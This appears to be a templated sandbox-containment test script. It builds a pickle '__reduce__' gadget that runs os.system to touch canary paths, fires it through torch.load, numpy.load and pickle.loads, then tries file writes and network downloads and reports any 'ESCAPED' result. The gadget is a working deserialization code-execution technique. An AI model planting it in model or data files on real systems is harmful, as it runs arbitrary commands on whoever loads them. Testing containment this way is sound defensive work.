# %% Run a gadget through torch.load, numpy.load and matplotlib's caches: it runs here, where it can do nothing.
import os
import pickle

import numpy as np
import torch

PLACES = ["@CANARIES@".split("|")[0] + "2", "/@TOKEN@", "@COURSE@/@TOKEN@", "@REPOSITORY@/@TOKEN@"]


class Gadget:
    def __reduce__(self):
        return os.system, ("touch " + " ".join(PLACES),)


torch.save({"w": Gadget()}, "model.pt")
torch.load("model.pt", weights_only=False)
np.save("a.npy", np.array([Gadget()], dtype=object), allow_pickle=True)
np.load("a.npy", allow_pickle=True)
pickle.loads(pickle.dumps(Gadget()))
done = [place for place in PLACES if os.path.exists(place)]

import matplotlib.pyplot as plt

plt.plot([1, 2])
for place in PLACES:
    try:
        plt.savefig(place + ".png")
        done.append(place)
    except OSError:
        pass
for source in ("https://download.pytorch.org/x.pt", "http://127.0.0.1:@PORT@/x.pt"):
    try:
        torch.hub.load_state_dict_from_url(source)
        done.append(source)
    except Exception:
        pass
print("tried", "ESC" + "APED: " + str(done) if done else "it all")
